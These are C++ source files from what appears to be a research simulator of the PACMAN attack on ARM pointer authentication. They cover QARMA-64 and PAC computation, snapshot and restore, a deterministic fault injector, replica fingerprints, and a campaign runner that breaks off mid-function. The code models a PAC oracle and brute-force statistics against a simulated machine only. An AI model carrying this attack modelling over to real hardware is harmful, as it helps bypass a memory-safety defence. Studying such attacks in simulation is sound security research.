
namespace pacman::crypto
{

/** Which of the three QARMA S-boxes to use. σ1 is the paper's default. */
enum class QarmaSbox
{
    Sigma0,
    Sigma1,
    Sigma2,
};

/**
 * QARMA-64 cipher instance with a fixed key, round count, and S-box.
 *
 * The round count r counts forward rounds; the total is 2r + 2 full
 * rounds plus the reflector. The paper's test vectors cover r = 5 and
 * r = 7; ARM PAC deployments are believed to use r = 7 ("QARMA7-64").
 */
class Qarma64
{
  public:
    /**
     * @param w0      Whitening key (high half of the 128-bit key).
     * @param k0      Core key (low half of the 128-bit key).
     * @param rounds  Number of forward rounds (5 or 7 in the paper).
     * @param sbox    S-box variant.
     */
    Qarma64(uint64_t w0, uint64_t k0, int rounds = 7,
            QarmaSbox sbox = QarmaSbox::Sigma1);

    /** Encrypt one 64-bit block under a 64-bit tweak. */
    uint64_t encrypt(uint64_t plaintext, uint64_t tweak) const;

    /** Decrypt one 64-bit block under a 64-bit tweak. */
    uint64_t decrypt(uint64_t ciphertext, uint64_t tweak) const;

    int rounds() const { return rounds_; }

  private:
    uint64_t w0_;
    uint64_t k0_;
    int rounds_;
    const uint8_t *sbox_;
    const uint8_t *sboxInv_;
};

} // namespace pacman::crypto

#endif // PACMAN_CRYPTO_QARMA64_HH
