/**
 * @file
 * Pointer Authentication Code computation on top of QARMA-64.
 *
 * A PAC is the truncation of QARMA-64(key, pointer, modifier) to the
 * pointer's unused upper bits. On the modelled platform (48-bit VA,
 * macOS-style configuration) the PAC is 16 bits wide, matching the
 * paper's measurements on macOS 12.2.1 / M1.
 */

#ifndef PACMAN_CRYPTO_PAC_HH
#define PACMAN_CRYPTO_PAC_HH

#include <cstdint>

#include "crypto/qarma64.hh"

namespace pacman::crypto
{

/** A 128-bit pointer-authentication key (w0 || k0). */
struct PacKey
{
    uint64_t w0 = 0;
    uint64_t k0 = 0;

    bool operator==(const PacKey &) const = default;
};

/**
 * The five ARMv8.3 PA keys: two instruction keys, two data keys, and
 * the generic key. Which key an instruction uses is encoded in its
 * opcode (e.g. pacIA uses IA).
 */
enum class PacKeySelect : uint8_t
{
    IA = 0,
    IB = 1,
    DA = 2,
    DB = 3,
    GA = 4,

    NumKeys = 5,
};

/** Human-readable key name ("IA", ...). */
const char *pacKeyName(PacKeySelect sel);

/**
 * Stateless PAC function: computes the @p pac_bits -bit PAC of
 * @p canonical_ptr (extension bits already canonicalized by the caller)
 * under @p modifier and @p key.
 *
 * @param canonical_ptr Pointer with its PAC field holding the canonical
 *                      extension (the value hashed by hardware).
 * @param modifier      64-bit context/salt (e.g. SP for return.
 *                      addresses, object address for vtable pointers).
 * @param key           128-bit PA key.
 * @param pac_bits      PAC width; 16 on the modelled platform.
 * @param rounds        QARMA forward-round count (7, as deployed).
 */
uint16_t computePac(uint64_t canonical_ptr, uint64_t modifier,
                    const PacKey &key, unsigned pac_bits = 16,
                    int rounds = 7);

/**
 * Toggle the (thread-local) computePac memo table. computePac is a
 * pure function, so memoization cannot change any result — a memo hit
 * requires the full (pointer, modifier, key, width, rounds) tuple to
 * match — but the attack's training loops authenticate the same
 * pointer thousands of times, and skipping the repeated QARMA key
 * schedule + rounds is the single largest hot-path win. Defaults on;
 * a PACMAN_DISABLE_FASTPATH build defaults it off so the slow
 * reference configuration measures the uncached cipher.
 *
 * The table and the flag are thread_local: parallel campaign workers
 * neither share nor contend on memo state.
 *
 * Because entries are keyed by the full tuple *including the key
 * material*, the memo is also snapshot/rekey-safe: Machine::restore()
 * and Kernel::rekey() change which keys are live in the sysregs, but
 * a memo entry for an old key can only be hit by a query using that
 * old key — so no flush is needed (or performed) on either path.
 */
void setPacMemoEnabled(bool on);
bool pacMemoEnabled();

} // namespace pacman::crypto

#endif // PACMAN_CRYPTO_PAC_HH
