#include "snapshot.hh"

namespace pacman::sim
{

ReplicaCheckpoint::ReplicaCheckpoint(kernel::Machine &machine,
                                     attack::PacOracle &oracle)
    : machine_(machine), oracle_(oracle)
{
    capture();
}

void
ReplicaCheckpoint::capture()
{
    msnap_ = machine_.takeSnapshot();
    osnap_ = oracle_.takeSnapshot();
    stats_.pagesCaptured = msnap_.mem.phys.pages.size();
}

void
ReplicaCheckpoint::restore()
{
    const mem::PhysMem::RestoreStats rs = machine_.restore(msnap_);
    oracle_.restore(osnap_);
    ++stats_.restores;
    stats_.pagesCopied += rs.pagesCopied;
    stats_.pagesFreed += rs.pagesFreed;
}

} // namespace pacman::sim
