#include "faults.hh"

#include "kernel/layout.hh"

namespace pacman::sim
{

using namespace pacman::kernel;

FaultInjector::FaultInjector(Machine &machine, const FaultPlan &plan,
                             uint64_t seed)
    : machine_(machine), plan_(plan), rng_(seed)
{
    plan_.validate();
}

FaultInjector::~FaultInjector()
{
    detach();
}

void
FaultInjector::attach()
{
    machine_.setDisturbanceHook([this] { onOpportunity(); });
    attached_ = true;
}

void
FaultInjector::detach()
{
    if (attached_) {
        machine_.setDisturbanceHook(nullptr);
        attached_ = false;
    }
}

void
FaultInjector::onOpportunity()
{
    ++opportunities_;
    if (!plan_.enabled())
        return;
    // Fixed roll order per opportunity keeps the draw sequence — and
    // therefore the whole faulted run — a pure function of the seed.
    if (plan_.contextSwitchRate > 0.0 &&
        rng_.chance(plan_.contextSwitchRate)) {
        contextSwitch();
    }
    if (plan_.preemptRate > 0.0 && rng_.chance(plan_.preemptRate))
        preempt();
    if (plan_.timerRate > 0.0 && rng_.chance(plan_.timerRate))
        disturbTimer();
    if (plan_.syscallBusyRate > 0.0 &&
        rng_.chance(plan_.syscallBusyRate)) {
        armBusy();
    }
    if (plan_.migrationRate > 0.0)
        maybeMigrate();
    if (plan_.hangRate > 0.0 && rng_.chance(plan_.hangRate))
        wedge();
}

void
FaultInjector::wedge()
{
    // The scheduler never comes back: burn a budget so large that no
    // measurement on this replica can complete before a supervising
    // watchdog's guest-cycle budget expires. Deterministic — the
    // burn is simulated time, identical on every host — so the Hang
    // classification and any quarantine it escalates to are part of
    // the campaign's bit-identical output.
    ++stats_.hangs;
    machine_.core().advanceCycles(plan_.hangCycles);
}

void
FaultInjector::pollute(unsigned pages, bool kernel_fetches)
{
    // The other context's working set: demand loads across the noise
    // arena (dTLB + caches) and, for interrupt-style events, kernel
    // code fetches that press on the EL1 iTLB the instruction oracle
    // primes.
    auto &mem = machine_.mem();
    for (unsigned i = 0; i < pages; ++i) {
        const isa::Addr va = NoiseArena +
                             rng_.next(512) * isa::PageSize +
                             rng_.next(256) * 64;
        mem.access(mem::AccessKind::Load, va, 0, false);
        if (kernel_fetches && rng_.chance(0.5)) {
            const isa::Addr tva =
                TrampolineBase +
                rng_.next(TrampolineCount) * isa::PageSize;
            mem.access(mem::AccessKind::Fetch, tva, 1, false);
        }
    }
}

void
FaultInjector::contextSwitch()
{
    ++stats_.contextSwitches;
    auto &mem = machine_.mem();
    // Attribute any timing-trace guard break the flush/pollute below
    // causes to the fault injector (telemetry only).
    mem.noteFlushDisturbance();
    if (rng_.chance(plan_.fullFlushFraction)) {
        // Full EL0 flush: the attacker's address space was switched
        // out; kernel (global) translations survive.
        mem.dtlb().flushAsid(mem::Asid::User);
        mem.itlb(0).flushAsid(mem::Asid::User);
        mem.l2tlb().flushAsid(mem::Asid::User);
        ++stats_.fullFlushes;
    } else {
        // Partial: the other process only displaced some sets.
        const uint64_t sets = mem.dtlb().config().sets;
        for (unsigned i = 0; i < plan_.flushSets; ++i)
            mem.dtlb().flushSetAsid(rng_.next(sets), mem::Asid::User);
        ++stats_.partialFlushes;
    }
    pollute(plan_.pollutePages, false);
}

void
FaultInjector::preempt()
{
    ++stats_.preemptions;
    machine_.mem().noteFlushDisturbance();
    const uint64_t burn =
        uint64_t(rng_.range(int64_t(plan_.preemptMinCycles),
                            int64_t(plan_.preemptMaxCycles)));
    machine_.core().advanceCycles(burn);
    stats_.preemptedCycles += burn;
    // The handler's footprint pollutes the primed iTLB/dTLB sets.
    pollute(plan_.preemptPollutePages, true);
}

void
FaultInjector::disturbTimer()
{
    auto &timer = machine_.timer();
    switch (rng_.next(3)) {
      case 0:
        timer.injectStall(
            uint64_t(rng_.range(int64_t(plan_.stallMinCycles),
                                int64_t(plan_.stallMaxCycles))));
        ++stats_.timerStalls;
        break;
      case 1:
        timer.setRateScalePermille(
            uint64_t(rng_.range(int64_t(plan_.skewPermilleMin),
                                int64_t(plan_.skewPermilleMax))));
        ++stats_.timerSkews;
        break;
      default:
        timer.injectJitterBurst(plan_.jitterBoost,
                                plan_.jitterBurstCycles);
        ++stats_.jitterBursts;
        break;
    }
}

void
FaultInjector::armBusy()
{
    // Host-side functional write: arming the busy count perturbs no
    // TLB or cache state, only future gadget syscalls.
    const uint64_t count =
        uint64_t(rng_.range(int64_t(plan_.busyMinCount),
                            int64_t(plan_.busyMaxCount)));
    machine_.mem().writeVirt64(machine_.kernel().busySlot(), count);
    ++stats_.busyArms;
}

void
FaultInjector::maybeMigrate()
{
    if (!machine_.onECore()) {
        if (rng_.chance(plan_.migrationRate)) {
            machine_.migrateCore(true);
            ++stats_.migrations;
        }
    } else if (rng_.chance(plan_.migrationReturnRate)) {
        machine_.migrateCore(false);
        ++stats_.migrations;
    }
}

} // namespace pacman::sim
