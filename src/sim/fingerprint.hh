/**
 * @file
 * State-fingerprint checksums for replica integrity (DESIGN.md §4g).
 *
 * FIPAC (arXiv 2104.14993) protects control flow with cheap running
 * checksums verified at recovery points; the campaign supervisor
 * applies the same idea to whole replicas. A fingerprint is a 64-bit
 * FNV-1a digest over the state a work item's result is a pure
 * function of:
 *
 *   - both machine RNG stream positions and the e-core flag,
 *   - the core's architectural state (registers, flags, pc, EL, the
 *     system registers — so the PAC keys — and the cycle counter),
 *   - the thread-timer device state,
 *   - every backed physical page's contents (frame-sorted, so the
 *     digest is independent of hash-map iteration order),
 *   - the oracle's host-side snapshot (threshold, calibration band,
 *     derived address lists, counters, argument-array placement).
 *
 * Page write generations and the decoded-instruction cache are
 * deliberately excluded: generations are never reused across a
 * restore (PR 4) and the decode cache is a host-side warm-up detail,
 * so including either would make the post-restore fingerprint differ
 * from the post-provision one by construction. The contract the
 * recovery ladder relies on — proven by
 * tests/runner/test_supervision.cc — is the converse: a checkpoint
 * restore reproduces the provisioning fingerprint bit-exactly, so a
 * mismatch between rungs means the replica (or its checkpoint) is
 * corrupt and the ladder must escalate to a full re-provision.
 */

#ifndef PACMAN_SIM_FINGERPRINT_HH
#define PACMAN_SIM_FINGERPRINT_HH

#include <cstdint>
#include <cstring>

#include "attack/oracle.hh"
#include "kernel/machine.hh"

namespace pacman::sim
{

/**
 * Incremental FNV-1a-style digest over typed fields.
 *
 * Fields fold in word-at-a-time on a single xor-multiply chain. Bulk
 * buffers (physical pages) run four independent lanes over 32-byte
 * strides, seeded from and folded back into the chain, because the
 * serial multiply dependency otherwise caps throughput at one
 * multiply per word — at a full fingerprint per provisioning this was
 * the single hottest function of snapshot-mode campaigns. The digest
 * is an internal integrity checksum: its exact value has no external
 * consumers, only equality between provision time and restore time
 * matters.
 */
class StateDigest
{
  public:
    void
    bytes(const void *data, size_t len)
    {
        const auto *p = static_cast<const uint8_t *>(data);
        if (len >= 32) {
            uint64_t l0 = hash_ ^ 0x9E3779B97F4A7C15ull;
            uint64_t l1 = hash_ ^ 0xC2B2AE3D27D4EB4Full;
            uint64_t l2 = hash_ ^ 0x165667B19E3779F9ull;
            uint64_t l3 = hash_ ^ 0x27D4EB2F165667C5ull;
            do {
                uint64_t w0, w1, w2, w3;
                std::memcpy(&w0, p, 8);
                std::memcpy(&w1, p + 8, 8);
                std::memcpy(&w2, p + 16, 8);
                std::memcpy(&w3, p + 24, 8);
                l0 = (l0 ^ w0) * Prime;
                l1 = (l1 ^ w1) * Prime;
                l2 = (l2 ^ w2) * Prime;
                l3 = (l3 ^ w3) * Prime;
                p += 32;
                len -= 32;
            } while (len >= 32);
            hash_ = (hash_ ^ l0) * Prime;
            hash_ = (hash_ ^ l1) * Prime;
            hash_ = (hash_ ^ l2) * Prime;
            hash_ = (hash_ ^ l3) * Prime;
        }
        for (size_t i = 0; i < len; ++i)
            hash_ = (hash_ ^ p[i]) * Prime;
    }

    void u64(uint64_t v) { hash_ = (hash_ ^ v) * Prime; }

    void
    f64(double v)
    {
        uint64_t bits;
        std::memcpy(&bits, &v, sizeof(bits));
        u64(bits);
    }

    uint64_t value() const { return hash_; }

  private:
    static constexpr uint64_t Prime = 0x100000001B3ull;

    uint64_t hash_ = 0xCBF29CE484222325ull; // FNV offset basis
};

/** Digest of the complete simulated machine state (see file docs). */
uint64_t machineFingerprint(const kernel::Machine &machine);

/** Digest of the oracle's host-side snapshot (includes the attacker
 *  process's argument-array placement). */
uint64_t oracleFingerprint(const attack::PacOracle &oracle);

/** The supervisor's replica integrity checksum: machine + oracle. */
uint64_t replicaFingerprint(const kernel::Machine &machine,
                            const attack::PacOracle &oracle);

} // namespace pacman::sim

#endif // PACMAN_SIM_FINGERPRINT_HH
