/**
 * @file
 * State-fingerprint checksums for replica integrity (DESIGN.md §4g).
 *
 * FIPAC (arXiv 2104.14993) protects control flow with cheap running
 * checksums verified at recovery points; the campaign supervisor
 * applies the same idea to whole replicas. A fingerprint is a 64-bit
 * FNV-1a digest over the state a work item's result is a pure
 * function of:
 *
 *   - both machine RNG stream positions and the e-core flag,
 *   - the core's architectural state (registers, flags, pc, EL, the
 *     system registers — so the PAC keys — and the cycle counter),
 *   - the thread-timer device state,
 *   - every backed physical page's contents (frame-sorted, so the
 *     digest is independent of hash-map iteration order),
 *   - the oracle's host-side snapshot (threshold, calibration band,
 *     derived address lists, counters, argument-array placement).
 *
 * Page write generations and the decoded-instruction cache are
 * deliberately excluded: generations are never reused across a
 * restore (PR 4) and the decode cache is a host-side warm-up detail,
 * so including either would make the post-restore fingerprint differ
 * from the post-provision one by construction. The contract the
 * recovery ladder relies on — proven by
 * tests/runner/test_supervision.cc — is the converse: a checkpoint
 * restore reproduces the provisioning fingerprint bit-exactly, so a
 * mismatch between rungs means the replica (or its checkpoint) is
 * corrupt and the ladder must escalate to a full re-provision.
 */

#ifndef PACMAN_SIM_FINGERPRINT_HH
#define PACMAN_SIM_FINGERPRINT_HH

#include <cstdint>

#include "attack/oracle.hh"
#include "kernel/machine.hh"

namespace pacman::sim
{

/** Incremental FNV-1a/64 digest over typed fields. */
class StateDigest
{
  public:
    void
    bytes(const void *data, size_t len)
    {
        const auto *p = static_cast<const uint8_t *>(data);
        for (size_t i = 0; i < len; ++i) {
            hash_ ^= p[i];
            hash_ *= 0x100000001B3ull;
        }
    }

    void u64(uint64_t v) { bytes(&v, sizeof(v)); }
    void f64(double v) { bytes(&v, sizeof(v)); }

    uint64_t value() const { return hash_; }

  private:
    uint64_t hash_ = 0xCBF29CE484222325ull; // FNV offset basis
};

/** Digest of the complete simulated machine state (see file docs). */
uint64_t machineFingerprint(const kernel::Machine &machine);

/** Digest of the oracle's host-side snapshot (includes the attacker
 *  process's argument-array placement). */
uint64_t oracleFingerprint(const attack::PacOracle &oracle);

/** The supervisor's replica integrity checksum: machine + oracle. */
uint64_t replicaFingerprint(const kernel::Machine &machine,
                            const attack::PacOracle &oracle);

} // namespace pacman::sim

#endif // PACMAN_SIM_FINGERPRINT_HH
