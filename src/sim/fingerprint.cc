#include "fingerprint.hh"

#include <algorithm>
#include <vector>

#include "isa/pointer.hh"

namespace pacman::sim
{

namespace
{

void
digestRngState(StateDigest &d, const Random::State &st)
{
    d.u64(st.seed);
    for (uint64_t word : st.s)
        d.u64(word);
}

void
digestAddrList(StateDigest &d, const std::vector<isa::Addr> &addrs)
{
    d.u64(addrs.size());
    for (isa::Addr a : addrs)
        d.u64(a);
}

} // anonymous namespace

uint64_t
machineFingerprint(const kernel::Machine &machine)
{
    StateDigest d;

    digestRngState(d, machine.rng().state());
    digestRngState(d, machine.noiseRng().state());
    d.u64(machine.onECore() ? 1 : 0);

    // Core architectural state. Dataflow readiness and predictor
    // tables are timing microstate that restores bit-exactly too, but
    // the integrity question is "would this replica produce the
    // provisioned replica's results", and registers + sysregs (the
    // PAC keys) + pc + cycle + memory answer it; keeping the digest
    // to stable, documented fields also keeps it layout-agnostic.
    // The core/timer snapshots are small fixed-size structs — the
    // machine-level deep snapshot (every page, cache and TLB copied
    // only to be hashed and thrown away) is what this function
    // deliberately avoids.
    const cpu::Core::Snapshot core = machine.core().takeSnapshot();
    for (uint64_t reg : core.regs)
        d.u64(reg);
    d.u64((core.flags.n ? 1 : 0) | (core.flags.z ? 2 : 0) |
          (core.flags.c ? 4 : 0) | (core.flags.v ? 8 : 0));
    d.u64(core.pc);
    d.u64(core.el);
    for (uint64_t sr : core.sysregs)
        d.u64(sr);
    d.u64(core.cycle);

    const cpu::ThreadTimerDevice::Snapshot timer =
        machine.timer().takeSnapshot();
    d.u64(timer.basePer1k);
    d.u64(timer.scalePermille);
    d.u64(timer.baseCycle);
    d.u64(timer.baseValue);
    d.u64(timer.stalled ? 1 : 0);
    d.u64(timer.stallUntil);
    d.u64(timer.burstUntil);
    d.u64(timer.burstExtra);
    d.u64(timer.lastValue);

    // Physical memory: every backed page's contents digested in
    // place, frame-sorted so the digest is independent of map
    // iteration order. Write generations are excluded — they are
    // never reused across a restore, so they differ between the
    // post-provision and post-restore states by design.
    const mem::PhysMem &phys = machine.mem().phys();
    std::vector<std::pair<uint64_t, const uint8_t *>> pages;
    pages.reserve(phys.pageCount());
    phys.forEachPage([&](uint64_t ppn, const uint8_t *data, uint64_t) {
        pages.emplace_back(ppn, data);
    });
    std::sort(pages.begin(), pages.end(),
              [](const auto &a, const auto &b) {
                  return a.first < b.first;
              });
    d.u64(pages.size());
    for (const auto &[ppn, data] : pages) {
        d.u64(ppn);
        d.bytes(data, isa::PageSize);
    }

    return d.value();
}

uint64_t
oracleFingerprint(const attack::PacOracle &oracle)
{
    const attack::PacOracle::Snapshot snap = oracle.takeSnapshot();
    StateDigest d;

    d.u64(uint64_t(snap.cfg.kind));
    d.u64(uint64_t(snap.cfg.channel));
    d.u64(snap.cfg.trainIters);
    d.u64(snap.cfg.latencyThreshold);
    d.u64(snap.cfg.missThreshold);
    d.u64(snap.cfg.autoCalibrate ? 1 : 0);
    d.u64(snap.cfg.calibrationSamples);
    d.u64(snap.cfg.queryRetries);
    d.u64(snap.cfg.busyRetries);
    d.u64(snap.cfg.skipReset ? 1 : 0);

    d.u64(snap.target);
    d.u64(snap.modifier);
    d.u64(snap.legitPtr);
    digestAddrList(d, snap.resetList);
    digestAddrList(d, snap.primeList);
    d.u64(snap.trampIndices.size());
    for (uint64_t t : snap.trampIndices)
        d.u64(t);
    d.u64(snap.queries);
    d.u64(snap.canaryAddr);
    d.f64(snap.calibHitLo);
    d.f64(snap.calibHitHi);
    d.u64(snap.stats.busyRetries);
    d.u64(snap.stats.disturbedQueries);
    d.u64(snap.stats.retriedQueries);
    d.u64(snap.stats.calibrations);
    d.u64(snap.stats.repairs);
    d.u64(snap.proc.listArray);
    d.u64(snap.proc.outArray);

    return d.value();
}

uint64_t
replicaFingerprint(const kernel::Machine &machine,
                   const attack::PacOracle &oracle)
{
    StateDigest d;
    d.u64(machineFingerprint(machine));
    d.u64(oracleFingerprint(oracle));
    return d.value();
}

} // namespace pacman::sim
