/**
 * @file
 * Snapshot/restore subsystem (DESIGN.md §4f).
 *
 * Every stateful simulator layer exposes the same two-method shape —
 * `takeSnapshot() const` returning a `Snapshot` value and
 * `restore(const Snapshot &)` rewinding to it — checked here by the
 * `Snapshottable` concept. `Machine::snapshot()` composes the layer
 * snapshots into one machine image; `ReplicaCheckpoint` adds the
 * attack stack's host-side state on top, which is what campaign
 * workers capture once after provisioning and rewind per work item.
 *
 * Restores are copy-on-write against PhysMem's per-page write
 * generations: a page whose generation is unchanged since the capture
 * has not been written, so only pages the work item actually dirtied
 * are copied back. A restore is therefore proportional to the work
 * done since the snapshot, not to the machine's footprint.
 */

#ifndef PACMAN_SIM_SNAPSHOT_HH
#define PACMAN_SIM_SNAPSHOT_HH

#include <concepts>
#include <cstdint>

#include "attack/oracle.hh"
#include "kernel/machine.hh"

namespace pacman::sim
{

/**
 * The shape every snapshottable simulator layer implements. The
 * restore's return type is unconstrained: most layers return void,
 * PhysMem (and everything composing it) returns the copy/free work
 * performed.
 */
template <typename T>
concept Snapshottable = requires(const T &ct, T &t,
                                 const typename T::Snapshot &snap) {
    { ct.takeSnapshot() } -> std::same_as<typename T::Snapshot>;
    t.restore(snap);
};

// The layers Machine::snapshot() composes, plus the attack-stack
// host state ReplicaCheckpoint adds. Keeping the list here makes a
// layer that drifts from the contract a compile error in exactly one
// place.
static_assert(Snapshottable<mem::PhysMem>);
static_assert(Snapshottable<mem::PageTable>);
static_assert(Snapshottable<mem::Cache>);
static_assert(Snapshottable<mem::Tlb>);
static_assert(Snapshottable<mem::MemoryHierarchy>);
static_assert(Snapshottable<cpu::BimodalPredictor>);
static_assert(Snapshottable<cpu::Btb>);
static_assert(Snapshottable<cpu::Core>);
static_assert(Snapshottable<cpu::ThreadTimerDevice>);
static_assert(Snapshottable<kernel::Machine>);
static_assert(Snapshottable<attack::AttackerProcess>);
static_assert(Snapshottable<attack::PacOracle>);

/** Aggregate work counters over a checkpoint's lifetime. */
struct CheckpointStats
{
    uint64_t restores = 0;    //!< restore() calls
    uint64_t pagesCopied = 0; //!< dirty pages rewound, total
    uint64_t pagesFreed = 0;  //!< post-snapshot pages dropped, total
    size_t pagesCaptured = 0; //!< backed pages in the capture
};

/**
 * A provisioned replica's checkpoint: the complete Machine state plus
 * the oracle's (and, through it, the attacker process's) host-side
 * state. Capture after provisioning — boot, AttackerProcess assembly,
 * eviction-set build, setTarget()/calibration — then restore() before
 * each work item instead of reconstructing the stack.
 */
class ReplicaCheckpoint
{
  public:
    /** Captures immediately; recapture later with capture(). */
    ReplicaCheckpoint(kernel::Machine &machine, attack::PacOracle &oracle);

    ReplicaCheckpoint(const ReplicaCheckpoint &) = delete;
    ReplicaCheckpoint &operator=(const ReplicaCheckpoint &) = delete;

    /** Re-capture at the machine/oracle's current state. */
    void capture();

    /** Rewind machine and oracle to the captured state. */
    void restore();

    const CheckpointStats &stats() const { return stats_; }

  private:
    kernel::Machine &machine_;
    attack::PacOracle &oracle_;
    kernel::Machine::Snapshot msnap_;
    attack::PacOracle::Snapshot osnap_;
    CheckpointStats stats_;
};

} // namespace pacman::sim

#endif // PACMAN_SIM_SNAPSHOT_HH
