/**
 * @file
 * The chaos layer: a seeded, deterministic fault injector realizing
 * a FaultPlan (base/faults.hh) against one Machine.
 *
 * The injector attaches to the machine's disturbance hook, which
 * fires at every fault *opportunity* — the injectNoise() markers the
 * attack harness places between its steps (twice per oracle query:
 * before training and between prime and fire). At each opportunity
 * every event type rolls independently against its plan rate, so a
 * single opportunity can realize several simultaneous disturbances,
 * like a real scheduler quantum boundary.
 *
 * Determinism: all draws come from a private Random seeded via
 * Random::deriveSeed, and every event mutates only the attached
 * machine. A faulted campaign replica therefore stays a pure
 * function of (boot seed, stream seed, plan) — bit-identical at any
 * --jobs count.
 */

#ifndef PACMAN_SIM_FAULTS_HH
#define PACMAN_SIM_FAULTS_HH

#include "base/faults.hh"
#include "base/random.hh"
#include "kernel/machine.hh"

namespace pacman::sim
{

/** Stream id for deriving a replica's injector seed from its
 *  per-item stream seed (campaign wiring). */
constexpr uint64_t FaultSeedStream = 0x4641'554Cull; // "FAUL"

/** A FaultPlan bound to one machine. */
class FaultInjector
{
  public:
    /**
     * @param machine The machine to disturb.
     * @param plan    Event rates and burst shapes. Validated at
     *                construction (FaultPlan::validate); malformed
     *                plans throw std::invalid_argument.
     * @param seed    Private stream seed (derive via
     *                Random::deriveSeed; never from thread identity).
     */
    FaultInjector(kernel::Machine &machine, const FaultPlan &plan,
                  uint64_t seed);

    /** Detaches from the machine's disturbance hook. */
    ~FaultInjector();

    FaultInjector(const FaultInjector &) = delete;
    FaultInjector &operator=(const FaultInjector &) = delete;

    /** Start receiving fault opportunities from the machine. */
    void attach();

    /** Stop receiving opportunities (state changes persist). */
    void detach();

    /**
     * One fault opportunity: roll every event type. Called via the
     * machine hook when attached; callable directly by tests.
     */
    void onOpportunity();

    const FaultPlan &plan() const { return plan_; }
    const FaultStats &stats() const { return stats_; }
    uint64_t opportunities() const { return opportunities_; }

  private:
    void contextSwitch();
    void preempt();
    void disturbTimer();
    void armBusy();
    void maybeMigrate();
    void wedge();
    void pollute(unsigned pages, bool kernel_fetches);

    kernel::Machine &machine_;
    FaultPlan plan_;
    Random rng_;
    FaultStats stats_;
    uint64_t opportunities_ = 0;
    bool attached_ = false;
};

} // namespace pacman::sim

#endif // PACMAN_SIM_FAULTS_HH
