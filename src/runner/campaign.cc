#include "campaign.hh"

#include <algorithm>
#include <atomic>
#include <bit>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <memory>
#include <optional>
#include <sstream>
#include <unordered_map>
#include <vector>

#include "base/journal.hh"
#include "base/logging.hh"

namespace pacman::runner
{

namespace
{

using Clock = std::chrono::steady_clock;

/** Stream id for per-trial PAC-key rotation (accuracy campaigns):
 *  key draws must come from a stream distinct from the trial's main
 *  stream or the first jitter draws would correlate with the keys. */
constexpr uint64_t KeySeedStream = 0x4B65'7973ull; // "Keys"

/** The per-pool-worker supervised-worker slot. */
Worker &
prepareWorker(std::vector<std::unique_ptr<Worker>> &slots,
              unsigned worker, const ReplicaConfig &cfg,
              const SupervisionConfig &sup)
{
    std::unique_ptr<Worker> &slot = slots[worker];
    if (!slot)
        slot = std::make_unique<Worker>(cfg, sup);
    return *slot;
}

/** The replica's per-candidate sampling policy. */
attack::ResamplePolicy
resamplePolicy(const ReplicaConfig &cfg)
{
    attack::ResamplePolicy policy;
    policy.samples = cfg.samples;
    policy.maxSamples = cfg.maxSamples;
    policy.candidateRetries = cfg.candidateRetries;
    return policy;
}

std::string
statFingerprint(const SampleStat &s)
{
    if (s.count() == 0)
        return "n=0";
    return strprintf("n=%llu mean=%.17g median=%.17g p90=%.17g "
                     "p99=%.17g min=%.17g max=%.17g",
                     (unsigned long long)s.count(), s.mean(), s.median(),
                     s.percentile(90), s.percentile(99), s.min(),
                     s.max());
}

std::string
robustnessFingerprint(const attack::BruteForceStats &b,
                      const attack::OracleStats &o, const FaultStats &f)
{
    return strprintf(
        "samples=%llu esc=%llu cand_retry=%llu busy_retry=%llu "
        "disturbed=%llu query_retry=%llu calib=%llu repair=%llu "
        "faults=%llu",
        (unsigned long long)b.samplesTaken,
        (unsigned long long)b.escalations,
        (unsigned long long)b.candidateRetries,
        (unsigned long long)o.busyRetries,
        (unsigned long long)o.disturbedQueries,
        (unsigned long long)o.retriedQueries,
        (unsigned long long)o.calibrations,
        (unsigned long long)o.repairs, (unsigned long long)f.total());
}

std::string
quarantineFingerprint(const std::vector<QuarantineRecord> &records)
{
    if (records.empty())
        return "none";
    std::string out;
    for (const QuarantineRecord &r : records) {
        out += strprintf("%sc%llu:%s", out.empty() ? "" : " ",
                         (unsigned long long)r.chunkIndex,
                         workerFaultName(r.kind));
    }
    return out;
}

// --- Journal record (de)serialization ------------------------------
//
// Chunk payloads are line-oriented, one tagged line per embedded
// struct. Doubles travel as their 64-bit patterns in hex, so a
// resumed campaign merges bit-identical values — the resume
// determinism contract depends on this, not on printf round-tripping.

std::string
encodeBfStats(const attack::BruteForceStats &s)
{
    return strprintf(
        "S %llu %llu %llu %llu %llu %llu %llu",
        s.found ? (unsigned long long)*s.found + 1 : 0ull,
        (unsigned long long)s.guessesTested,
        (unsigned long long)s.oracleQueries,
        (unsigned long long)s.cyclesSimulated,
        (unsigned long long)s.samplesTaken,
        (unsigned long long)s.escalations,
        (unsigned long long)s.candidateRetries);
}

bool
decodeBfStats(std::istringstream &in, attack::BruteForceStats &s)
{
    unsigned long long found1 = 0, g = 0, q = 0, c = 0, sm = 0, e = 0,
                       r = 0;
    if (!(in >> found1 >> g >> q >> c >> sm >> e >> r))
        return false;
    s = attack::BruteForceStats{};
    if (found1)
        s.found = uint16_t(found1 - 1);
    s.guessesTested = g;
    s.oracleQueries = q;
    s.cyclesSimulated = c;
    s.samplesTaken = sm;
    s.escalations = e;
    s.candidateRetries = r;
    return true;
}

std::string
encodeOracleStats(const attack::OracleStats &o)
{
    return strprintf("O %llu %llu %llu %llu %llu",
                     (unsigned long long)o.busyRetries,
                     (unsigned long long)o.disturbedQueries,
                     (unsigned long long)o.retriedQueries,
                     (unsigned long long)o.calibrations,
                     (unsigned long long)o.repairs);
}

bool
decodeOracleStats(std::istringstream &in, attack::OracleStats &o)
{
    o = attack::OracleStats{};
    return bool(in >> o.busyRetries >> o.disturbedQueries >>
                o.retriedQueries >> o.calibrations >> o.repairs);
}

std::string
encodeFaultStats(const FaultStats &f)
{
    return strprintf(
        "F %llu %llu %llu %llu %llu %llu %llu %llu %llu %llu %llu",
        (unsigned long long)f.contextSwitches,
        (unsigned long long)f.fullFlushes,
        (unsigned long long)f.partialFlushes,
        (unsigned long long)f.preemptions,
        (unsigned long long)f.preemptedCycles,
        (unsigned long long)f.timerStalls,
        (unsigned long long)f.timerSkews,
        (unsigned long long)f.jitterBursts,
        (unsigned long long)f.busyArms,
        (unsigned long long)f.migrations, (unsigned long long)f.hangs);
}

bool
decodeFaultStats(std::istringstream &in, FaultStats &f)
{
    f = FaultStats{};
    return bool(in >> f.contextSwitches >> f.fullFlushes >>
                f.partialFlushes >> f.preemptions >> f.preemptedCycles >>
                f.timerStalls >> f.timerSkews >> f.jitterBursts >>
                f.busyArms >> f.migrations >> f.hangs);
}

/** Samples in insertion order: mean() sums in that order, so
 *  preserving it keeps floating-point rounding identical on resume. */
std::string
encodeSamples(const SampleStat &s)
{
    std::string out = strprintf("D %llu",
                                (unsigned long long)s.count());
    for (double v : s.samples())
